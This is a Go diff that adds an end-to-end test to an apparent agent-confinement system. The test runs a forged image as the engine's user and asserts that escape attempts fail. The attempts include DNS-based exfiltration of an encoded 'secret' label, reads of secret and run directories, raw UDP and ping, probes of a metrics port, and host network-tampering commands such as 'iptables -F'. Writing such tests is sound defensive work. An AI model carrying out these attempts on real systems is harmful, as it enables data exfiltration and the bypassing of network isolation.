@@ -2,7 +2,11 @@ package e2e
 
 import (
 	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -128,6 +132,7 @@ func triesAsRoot(t *testing.T, a agent) {
 	for _, attempt := range []string{"flush", "flush-in-user-namespace", "trace"} {
 		a.mustFail(t, attempt)
 	}
+	a.mustFail(t, "mark", "1.2.3.4:9999")
 	a.mustFail(t, "write", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/route_localnet")
 	for _, command := range []string{
 		"ip link set eth0 down", "ip route del default", "ip addr add 10.9.9.9/32 dev lo", "iptables -F", "ip link add x type dummy",
@@ -139,6 +144,75 @@ func triesAsRoot(t *testing.T, a agent) {
 	}
 	// It is still held.
 	a.mustFail(t, "udp", "1.2.3.4:9999")
+}
+
+// An image may say which user runs it, after the pod has said which user the engine is: whoever has a registry answers when they like.
+func TestE03AnImageThatIsMadeForTheEnginesUserIsHeldAsWell(t *testing.T) {
+	a := injected(t)
+	a.pod = "forged"
+	const forged = "docker.io/local/forged:1"
+	apply(t, fmt.Sprintf(`
+apiVersion: v1
+kind: Pod
+metadata: {name: %s, namespace: %s}
+spec:
+  serviceAccountName: bot
+  terminationGracePeriodSeconds: 1
+  containers:
+    - {name: agent, image: %q, args: [wait]}
+`, a.pod, a.namespace, forged))
+	engine := a.engineUID(t)
+	bringImage(t, image{tag: forged, entry: []string{"/agent"}, user: engine + ":" + engine})
+	ready(t, a.namespace, a.pod)
+	if id := strings.TrimSpace(a.shell(t, "/bin/busybox", "id", "-u")); id != engine {
+		t.Fatalf("the agent is user %s, and this test is about the engine's, %s", id, engine)
+	}
+	for _, address := range []string{"1.2.3.4:443", "1.2.3.4:9999", "[2606:e2e::4]:443"} {
+		a.mustFail(t, "udp", address)
+		a.mustFail(t, "mark", address)
+	}
+	a.mustFail(t, "ping", "1.2.3.4")
+	a.mustFail(t, "lookup", "c2VjcmV0.e03.example", "udp", clusterDNS)
+	if i := slices.IndexFunc(suite.dns.questions(), func(q string) bool { return strings.Contains(q, "e03") }); i >= 0 {
+		t.Errorf("the cluster's resolver was asked for %s", suite.dns.questions()[i])
+	}
+	a.mustFail(t, "dial", "tcp", "127.0.0.1:15020", `GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n`)
+	a.mustFail(t, "read", "/var/run/aegrail", "/var/run/aegrail/*", "/var/run/secrets/aegrail", "/var/log/aegrail/*", "/proc/[0-9]*/root/var/run/aegrail/*")
+	a.mustFail(t, "trace")
+	var got answer
+	a.exec(t, &got, "send", "-direct", "-insecure", "-host", otherHost, "https://1.2.3.5/e03")
+	if got.Error == "" {
+		t.Errorf("it reaches another host: %+v", got)
+	}
+	if through := suite.origins.arrived(func(s seen) bool { return s.Path == "/e03" }); len(through) > 0 {
+		t.Errorf("arrived: %+v", through)
+	}
+	served(t, a)
+	kubectl(t, "delete", "pod", "-n", a.namespace, a.pod)
+}
+
+// bringImage gives the node an image that it could not fetch until now: the agent's with another configuration.
+func bringImage(t *testing.T, i image) {
+	t.Helper()
+	archive := filepath.Join(t.TempDir(), "image.tar")
+	files := layer{files: map[string]string{"/agent": filepath.Join(suite.dir, "bin", "agent"), "/bin/busybox": "/bin/busybox"}}
+	if err := writeImages(archive, files, i); err != nil {
+		t.Fatal(err)
+	}
+	node, err := kubelet() // which has containerd's socket in sight
+	if err != nil {
+		t.Fatal(err)
+	}
+	in, err := os.Open(archive)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer in.Close()
+	cmd := exec.CommandContext(t.Context(), "nsenter", "--mount", "--target", strconv.Itoa(node), "ctr", "-a", "/run/containerd/containerd.sock", "-n", "k8s.io", "images", "import", "-")
+	cmd.Stdin = in
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
 }
 
 // shellLine runs a shell's command line in the agent's container.
